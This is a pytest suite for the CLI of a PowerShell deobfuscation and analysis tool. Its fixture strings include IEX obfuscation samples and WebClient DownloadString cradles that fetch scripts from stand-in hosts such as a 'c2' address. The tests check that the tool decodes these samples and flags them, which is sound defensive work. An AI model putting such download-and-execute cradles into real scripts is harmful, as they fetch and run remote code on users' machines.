"""Tests for the ``python -m repro`` command line interface."""

import io
import sys

import pytest

from repro.cli import main


@pytest.fixture
def script_file(tmp_path):
    def make(content: str):
        path = tmp_path / "sample.ps1"
        path.write_text(content, encoding="utf-8")
        return str(path)

    return make


def run_cli(argv, capsys):
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


class TestVersionFlag:
    def test_version_prints_package_version(self, capsys):
        from repro import package_version

        with pytest.raises(SystemExit) as excinfo:
            main(["--version"])
        assert excinfo.value.code == 0
        out = capsys.readouterr().out
        assert package_version() in out
        assert out.startswith("repro ")

    def test_version_matches_dunder(self):
        import repro

        assert repro.package_version() == repro.__version__


class TestDeobfuscateCommand:
    def test_basic(self, script_file, capsys):
        path = script_file("I`E`X ('wri'+'te-host hi')")
        code, out, err = run_cli(["deobfuscate", path], capsys)
        assert code == 0
        assert out.strip() == "Write-Host hi"

    def test_invalid_input(self, script_file, capsys):
        path = script_file("'unterminated")
        code, out, err = run_cli(["deobfuscate", path], capsys)
        assert code == 1
        assert "not a valid" in err

    def test_show_layers(self, script_file, capsys):
        path = script_file("iex 'iex ''write-host x'''")
        code, out, err = run_cli(
            ["deobfuscate", "--show-layers", path], capsys
        )
        assert code == 0
        assert "layer 1" in out

    def test_no_rename(self, script_file, capsys):
        path = script_file("$xqzjw = 'a'+'b'")
        code, out, _ = run_cli(["deobfuscate", "--no-rename", path], capsys)
        assert "$xqzjw" in out

    def test_stats_flag_keeps_stdout_clean(self, script_file, capsys):
        path = script_file("I`E`X ('wri'+'te-host hi')")
        code, out, err = run_cli(["deobfuscate", "--stats", path], capsys)
        assert code == 0
        assert out.strip() == "Write-Host hi"
        assert "=== pipeline profile ===" in err
        assert "recovery" in err
        assert "(iter 0)" in err


class TestProfileCommand:
    def test_text_profile(self, script_file, capsys):
        path = script_file("iex ('a'+'b')")
        code, out, _ = run_cli(["profile", path], capsys)
        assert code == 0
        assert "=== pipeline profile ===" in out
        assert "phases" in out
        assert "ast" in out
        # The profile replaces the script, not prints it.
        assert "'ab'" not in out

    def test_text_profile_lists_per_iteration_spans(self, script_file, capsys):
        path = script_file("iex ('a'+'b')")
        code, out, _ = run_cli(["profile", path], capsys)
        assert code == 0
        rows = out.split("spans     :\n", 1)[1].splitlines()
        assert rows[0].split()[0] == "token"
        assert rows[0].endswith("(iter 0)")
        assert rows[-1].split()[0] == "techniques"
        assert rows[-1].endswith("(post)")

    def test_json_profile_round_trips(self, script_file, capsys):
        import json

        from repro.obs import STATS_SCHEMA_VERSION, PipelineStats

        path = script_file("$x = 'a'+'b'")
        code, out, _ = run_cli(["profile", "--json", path], capsys)
        assert code == 0
        payload = json.loads(out)
        assert payload["valid_input"] is True
        stats = payload["stats"]
        assert stats["schema_version"] == STATS_SCHEMA_VERSION
        assert PipelineStats.from_dict(stats).to_dict() == stats

    def test_invalid_input_exit_code(self, script_file, capsys):
        path = script_file("'unterminated")
        code, _, _ = run_cli(["profile", path], capsys)
        assert code == 1


class TestScoreCommand:
    def test_scores(self, script_file, capsys):
        path = script_file("iex ('a'+'b')")
        code, out, _ = run_cli(["score", path], capsys)
        assert code == 0
        assert "alias" in out
        assert "concat" in out
        assert "score:" in out


class TestKeyinfoCommand:
    def test_extracts(self, script_file, capsys):
        path = script_file(
            "(New-Object Net.WebClient)"
            ".DownloadString('https://x.test/a.ps1')"
        )
        code, out, _ = run_cli(["keyinfo", path], capsys)
        assert code == 0
        assert "url\thttps://x.test/a.ps1" in out
        assert "ps1\t" in out


class TestBehaviorCommand:
    def test_records(self, script_file, capsys):
        path = script_file(
            "(New-Object Net.WebClient).DownloadString('http://c2.io/')"
        )
        code, out, _ = run_cli(["behavior", path], capsys)
        assert code == 0
        assert "net.download_string\thttp://c2.io/" in out


class TestTokenizeParse:
    def test_tokenize(self, script_file, capsys):
        path = script_file("write-host hi")
        code, out, _ = run_cli(["tokenize", path], capsys)
        assert code == 0
        assert "Command" in out

    def test_parse(self, script_file, capsys):
        path = script_file("write-host hi")
        code, out, _ = run_cli(["parse", path], capsys)
        assert code == 0
        assert "ScriptBlockAst" in out
        assert "CommandAst" in out


@pytest.fixture
def events_file(tmp_path):
    """A small JSONL event log with known levels, loggers, traces."""
    import json as _json

    from repro.obs.log import LogEvent

    events = [
        LogEvent(
            ts=1700000000.0, level="info", logger="service.core",
            message="service started", fields={"workers": 2},
        ),
        LogEvent(
            ts=1700000001.0, level="warning", logger="policy.audit",
            message="policy denied capability",
            fields={"capability": "env"},
            trace_id="aaaa000011112222aaaa000011112222",
        ),
        LogEvent(
            ts=1700000002.0, level="error", logger="batch.pool",
            message="worker died", fields={"pid": 41},
            trace_id="bbbb000011112222bbbb000011112222",
        ),
    ]
    path = tmp_path / "events.jsonl"
    path.write_text(
        "".join(
            _json.dumps(e.to_dict(), sort_keys=True) + "\n"
            for e in events
        )
        + "this line is torn garbage\n",
        encoding="utf-8",
    )
    return str(path)


class TestLogsCommand:
    def test_renders_all_events(self, events_file, capsys):
        code, out, _err = run_cli(["logs", events_file], capsys)
        assert code == 0
        lines = out.strip().splitlines()
        assert len(lines) == 3  # garbage line skipped
        assert "service started" in lines[0]
        assert "workers=2" in lines[0]
        assert "trace=bbbb" in lines[2]

    def test_level_filter(self, events_file, capsys):
        code, out, _ = run_cli(
            ["logs", events_file, "--level", "warning"], capsys
        )
        assert code == 0
        lines = out.strip().splitlines()
        assert len(lines) == 2
        assert "WARNING" in lines[0]
        assert "ERROR" in lines[1]

    def test_logger_and_trace_filters(self, events_file, capsys):
        code, out, _ = run_cli(
            ["logs", events_file, "--logger", "policy"], capsys
        )
        assert code == 0
        assert out.count("\n") == 1
        assert "policy denied capability" in out

        code, out, _ = run_cli(
            ["logs", events_file, "--trace", "bbbb"], capsys
        )
        assert code == 0
        assert out.count("\n") == 1
        assert "worker died" in out

    def test_tail_keeps_the_newest(self, events_file, capsys):
        code, out, _ = run_cli(
            ["logs", events_file, "--tail", "1"], capsys
        )
        assert code == 0
        assert out.count("\n") == 1
        assert "worker died" in out

    def test_json_reemits_parseable_lines(self, events_file, capsys):
        import json as _json

        code, out, _ = run_cli(["logs", events_file, "--json"], capsys)
        assert code == 0
        parsed = [
            _json.loads(line) for line in out.strip().splitlines()
        ]
        assert len(parsed) == 3
        assert parsed[1]["fields"]["capability"] == "env"
        assert parsed[1]["schema_version"] == 1

    def test_missing_file_is_an_error(self, tmp_path, capsys):
        code, _out, err = run_cli(
            ["logs", str(tmp_path / "nope.jsonl")], capsys
        )
        assert code == 1
        assert "cannot read" in err


class TestServeFlags:
    @pytest.mark.parametrize("command", ["serve", "fleet"])
    def test_legacy_threaded_is_gone(self, command, capsys):
        with pytest.raises(SystemExit) as excinfo:
            main([command, "--legacy-threaded"])
        assert excinfo.value.code == 2
        assert "--legacy-threaded" in capsys.readouterr().err


class TestTopCommand:
    def test_once_renders_a_live_service(self, served, capsys):
        import json as _json
        import urllib.request

        _service, url = served()
        body = _json.dumps({"script": "write-host top"}).encode()
        request = urllib.request.Request(
            url + "/deobfuscate", data=body,
            headers={"Content-Type": "application/json"},
        )
        with urllib.request.urlopen(request, timeout=15.0) as resp:
            trace = _json.loads(resp.read())["trace_id"]

        code, out, _err = run_cli(["top", "--url", url, "--once"], capsys)
        assert code == 0
        assert f"repro top — {url}" in out
        assert "window" in out and "p95ms" in out
        # The request we just made shows up as the 1m exemplar.
        assert trace in out

    def test_once_unreachable_is_exit_1(self, capsys):
        code, _out, err = run_cli(
            ["top", "--url", "http://127.0.0.1:1", "--once"], capsys
        )
        assert code == 1
        assert "cannot fetch" in err
